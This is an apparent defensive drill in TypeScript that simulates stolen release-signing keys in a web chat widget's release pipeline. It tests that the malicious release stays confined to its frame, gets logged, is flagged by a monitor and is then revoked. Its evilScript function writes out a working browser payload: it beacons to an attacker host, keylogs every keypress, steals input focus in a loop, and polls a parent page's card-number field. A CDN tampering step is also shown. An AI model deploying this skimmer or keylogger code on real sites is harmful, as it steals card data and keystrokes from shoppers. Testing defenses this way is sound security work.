/**
 * Release keys are stolen. With one nothing starts. With all three, and a server that publishes what it is handed, the
 * attacker's code does run: in the frame, where it reads no key of the page, and under an entry of the log that stays.
 */
import { cpSync, existsSync, mkdtempSync, readFileSync, renameSync, writeFileSync } from 'node:fs'
import * as path from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { socketIn } from '@candor/keyholder/keyholder-socket.ts'
import { httpStorage } from '@candor/ledger/http-storage.ts'
import type { ReleaseRow } from '@candor/protocol/integrity-api.ts'
import { differencesOf } from '@candor/release/attest-build.ts'
import type { ReleaseBundle } from '@candor/release/bundle.ts'
import { buildRelease } from '@candor/release/isolated-sources.ts'
import {
  buildStatement,
  integrityOf,
  manifestCharsMax,
  parseManifest,
  releaseIdOf,
  releaseMsMax,
  spellManifest,
} from '@candor/release/manifest.ts'
import { openMonitor, type MonitorAlarm } from '@candor/release/monitor.ts'
import { readManifestText, writeBuild, writeSigned } from '@candor/release/release-folder.ts'
import { parseKeyText, type ReleaseKey } from '@candor/release/release-keys.ts'
import { parseRoot } from '@candor/release/root.ts'
import { fetchBytes } from '@candor/release/served-release.ts'
import { revocationStatement } from '@candor/release/verify-release.ts'
import { connectWire } from './keyholder-wire.ts'
import { cardStolen, skimmer } from './shop/attacked-shop.ts'
import { until, withShopScene } from './shop/shop-scene.ts'

const flaggedMsMax = 60_000
const takenMsMax = 30_000
/** What the loader would take for its frame to come. */
const startMsMax = 5_000
/** What runs tells the attacker at once. */
const tellMs = 1_500

interface Keys {
  release: [ReleaseKey, ReleaseKey, ReleaseKey]
  builders: [ReleaseKey, ReleaseKey]
}

/** @returns whether one key starts nothing, and what three keys start is held apart, logged and flagged. */
export function stolenKeys(print: (line: string) => void): Promise<boolean> {
  return withShopScene(print, async (scene) => {
    const { shop, cdn, timeline, direct, home } = scene
    const folder = path.join(home, 'release')
    const keys = keysIn(path.join(folder, 'keys'))
    const root = parseRoot(readFileSync(path.join(folder, 'release-root.json'), 'utf8'))!
    const monitor = openMonitor({
      reader: httpStorage(`${direct}/log/`),
      root,
      manifestOf: async (id) =>
        (await fetchBytes(new URL(`/w/${id}/manifest.json`, direct), manifestCharsMax)).toString('utf8'),
      now: Date.now,
    })

    timeline.begin('before the attack: the operator publishes a release that two builders have built')
    const honest = attestedRelease(folder, keys)
    handOver(folder, honest)
    const isHonestServed =
      (await until(
        () => servedId(direct),
        (id) => id === honest.id,
        takenMsMax,
      )) !== null
    const usual = await monitor.look()
    const results = [
      timeline.check(
        isHonestServed && usual.every(({ release }) => release !== honest.id),
        'it is in force, and the monitor has nothing to say about it',
      ),
    ]

    const evil = evilRelease(folder, honest.id, shop.attacker)
    const script = readFileSync(path.join(evil.folder, 'files', scriptName), 'utf8')
    shop.tagManager = () => script
    results.push(
      timeline.check(
        await scene.control(),
        'control: on a page without protection the same script reads the card',
      ),
    )
    shop.tagManager = () => ''

    timeline.begin('one release key is stolen')
    const one = [keys.release[0].sign(evil.text), '', ''] as const
    writeSigned(evil.folder, evil.text, one)
    handOver(folder, evil)
    const why = path.join(folder, 'incoming', `${evil.id}.why`)
    await until(() => existsSync(why), Boolean, takenMsMax)
    results.push(
      timeline.check(
        existsSync(why),
        `the server: ${existsSync(why) ? readFileSync(why, 'utf8').trim() : 'no answer'}`,
      ),
    )
    const wire = await connectWire(socketIn(path.join(home, 'keyholder')))
    const answer = await wire.ask('release-publish', { manifest: evil.text, signatures: one })
    wire.drop()
    const denied = answer !== null && 'denied' in answer ? answer : null
    results.push(
      timeline.check(
        denied?.denied === 'release-unsigned',
        `the keyholder, asked past the server: ${denied === null ? 'no denial' : `${denied.denied}, itself entry ${denied.index} of the log`}`,
      ),
    )
    let given = 0
    cdn.alter(({ path: asked }, real) => {
      if (asked.startsWith('/w/release.json')) {
        given++
        const bundle = JSON.parse(real.body.toString('utf8')) as ReleaseBundle
        const s = [...one, ...bundle.s.slice(one.length)]
        return { ...real, body: Buffer.from(JSON.stringify({ ...bundle, m: evil.text, s })) }
      }
      const [, name] = new RegExp(`^/w/${evil.id}/([a-z.]+)$`).exec(asked) ?? []
      if (name === undefined) return null
      const headers = {
        'content-type': name.endsWith('.js') ? 'text/javascript' : 'text/html',
        'access-control-allow-origin': '*',
        'allow-csp-from': '*',
      }
      return { status: 200, headers, body: readFileSync(path.join(evil.folder, 'files', name)) }
    })
    const refused = await scene.visit('/checkout')
    await refused.openWidget()
    await sleep(startMsMax)
    await refused.typeCard()
    await refused.close()
    cdn.alter(null)
    results.push(
      timeline.check(
        given > 0 && shop.stolen.length === 0,
        `at the CDN, given ${given} times: nothing starts; requests to the attacker: ${shop.stolen.length}`,
      ),
    )
    await monitor.look()

    timeline.begin('all three release keys are stolen, and the server publishes what it is handed')
    writeSigned(evil.folder, evil.text, [
      keys.release[0].sign(evil.text),
      keys.release[1].sign(evil.text),
      keys.release[2].sign(evil.text),
    ])
    handOver(folder, evil)
    const isServed =
      (await until(
        () => servedId(direct),
        (id) => id === evil.id,
        takenMsMax,
      )) !== null
    timeline.mark(isServed ? 'visitors are given it' : 'it was not published: the drill shows nothing')
    const flags: MonitorAlarm[] = []
    const flagged = until(
      async () => flags.push(...(await monitor.look()).filter(({ release }) => release === evil.id)),
      (count) => count > 0,
      flaggedMsMax,
    )
    const visitor = await scene.visit('/checkout')
    await visitor.openWidget()
    const ran = await until(() => shop.stolen.some(({ url }) => url === '/?ran'), Boolean, takenMsMax)
    results.push(
      timeline.check(isServed && ran === true, 'the attacker’s code runs in the frame, and says so'),
    )
    const readsChat = await until(
      async () => {
        await visitor.page.keyboard.press('x')
        return shop.stolen.some(({ url }) => url === '/?key=x')
      },
      Boolean,
      tellMs,
    )
    results.push(timeline.check(readsChat === true, 'it reads what is typed into the chat itself'))
    shop.stolen.length = 0
    await visitor.typeCard()
    await sleep(tellMs)
    const typed = await visitor.page.locator('[name=card-number]').inputValue()
    await visitor.close()
    const got = shop.stolen.map(({ url }) => url)
    results.push(
      timeline.check(
        typed.length > 0 && !cardStolen(shop) && got.length === 0,
        `a card is typed into the page beside it (${typed.length} digits are in the field); keys and values that the attacker got: ${got.length === 0 ? 'none' : got.join(' ')}`,
      ),
    )
    await flagged
    const [flag] = flags
    results.push(
      timeline.check(
        flag !== undefined,
        flag === undefined
          ? `the monitor said nothing within ${flaggedMsMax / 1_000} s`
          : `the monitor, by entry ${flag.entry} of the log, after ${((Date.parse(flag.at) - timeline.zero()) / 1_000).toFixed(1)} s: ${flags.map(({ alarm }) => alarm).join(', ')}`,
      ),
    )

    const revocation = { id: evil.id, reason: 'Drill: it was never ours', at: new Date().toISOString() }
    const statement = revocationStatement(revocation)
    const file = path.join(folder, 'revocations', `${evil.id}.json`)
    writeFileSync(
      `${file}.new`,
      JSON.stringify({
        ...revocation,
        signatures: [keys.release[0].sign(statement), keys.release[1].sign(statement), ''],
      }),
    )
    renameSync(`${file}.new`, file)
    const isBack =
      (await until(
        () => servedId(direct),
        (id) => id === honest.id,
        takenMsMax,
      )) !== null
    const { items } = await scene.get<{ items: ReleaseRow[] }>('integrity/releases')
    const row = items.find(({ id }) => id === evil.id)
    results.push(
      timeline.check(
        isBack && row?.publishedEntry === flag?.entry && row?.revokedEntry != null,
        `revoked by two keys: the release before it is in force again; entries ${row?.publishedEntry} (published) and ${row?.revokedEntry} (revoked) stay`,
      ),
    )
    return results.every(Boolean)
  })
}

interface Handed {
  id: string
  folder: string
}

const scriptName = 'en.js'

/** Built twice, each in a folder of its own; the builders sign because the bytes agree. */
function attestedRelease(folder: string, keys: Keys): Handed {
  const [one, other] = [buildRelease(), buildRelease()]
  const differences = differencesOf(one, other)
  if (differences.length > 0) throw new Error(`Two builds differ: ${differences.join(', ')}.`)
  const statement = buildStatement(one.build)
  const now = Date.now()
  const text = spellManifest({
    v: 1,
    ...one.build,
    issued: new Date(now).toISOString(),
    expires: now + releaseMsMax,
    built: keys.builders.map((key) => ({ by: key.publicKey, sig: key.sign(statement) })),
  })
  const own = mkdtempSync(path.join(path.dirname(folder), 'honest-'))
  writeBuild(own, one)
  writeSigned(own, text, [keys.release[0].sign(text), keys.release[1].sign(text), ''])
  return { id: releaseIdOf(text), folder: own }
}

/** The honest release with another script for the frame, and a policy that lets it talk to the attacker. */
function evilRelease(folder: string, honest: string, attacker: string): Handed & { text: string } {
  const own = mkdtempSync(path.join(path.dirname(folder), 'evil-'))
  cpSync(path.join(folder, 'releases', honest), own, { recursive: true })
  const manifest = parseManifest(readManifestText(own)!)!
  const script = Buffer.from(evilScript(attacker))
  const before = manifest.files[scriptName]!
  const documentFile = path.join(own, 'files', 'en.html')
  const document = readFileSync(documentFile, 'utf8').replace(before, integrityOf(script))
  writeFileSync(path.join(own, 'files', scriptName), script)
  writeFileSync(documentFile, document)
  const text = spellManifest({
    ...manifest,
    // A little younger: the newest is given to visitors.
    issued: new Date(Date.parse(manifest.issued) + 1).toISOString(),
    files: {
      ...manifest.files,
      [scriptName]: integrityOf(script),
      'en.html': integrityOf(Buffer.from(document)),
    },
    csp: manifest.csp.replace(before, integrityOf(script)).replace('<o> <w>', `<o> <w> ${attacker}`),
  })
  return { id: releaseIdOf(text), folder: own, text }
}

/**
 * Says that it runs; takes every key that it is given, and in a frame takes the focus from the page to be given more;
 * reads the field of the page where it is let.
 */
function evilScript(attacker: string): string {
  const tell = (what: string): string =>
    `fetch(${JSON.stringify(`${attacker}/?`)}+${what},{mode:'no-cors'}).catch(()=>0)`
  return `${tell(`'ran'`)}${skimmer(attacker)}
addEventListener('keydown',e=>{${tell(`'key='+encodeURIComponent(e.key)`)}},true)
if(parent!==self){
const box=document.createElement('input');document.documentElement.append(box)
box.addEventListener('input',()=>{${tell(`'box='+encodeURIComponent(box.value)`)}})
const steal=()=>{focus();box.focus()}
addEventListener('blur',steal);setInterval(steal,2)
setInterval(()=>{try{const v=parent.document.querySelector('[name=card-number]').value;${tell(`'value='+v`)}}catch{}},50)}
`
}

/** As whoever may write into the server's data folder hands it over. */
function handOver(folder: string, { id, folder: from }: Handed): void {
  const incoming = path.join(folder, 'incoming', id)
  cpSync(from, `${incoming}.new`, { recursive: true })
  renameSync(`${incoming}.new`, incoming)
}

/** Release that loaders are given now; '' where none is in force. */
async function servedId(direct: string): Promise<string> {
  const answer = await fetch(`${direct}/w/release.json`)
  const text = await answer.text()
  return answer.ok ? releaseIdOf((JSON.parse(text) as ReleaseBundle).m) : ''
}

function keysIn(folder: string): Keys {
  const key = (name: string): ReleaseKey =>
    parseKeyText(readFileSync(path.join(folder, `${name}.key`), 'utf8'))!
  return {
    release: [key('release-1'), key('release-2'), key('release-3')],
    builders: [key('builder-1'), key('builder-2')],
  }
}
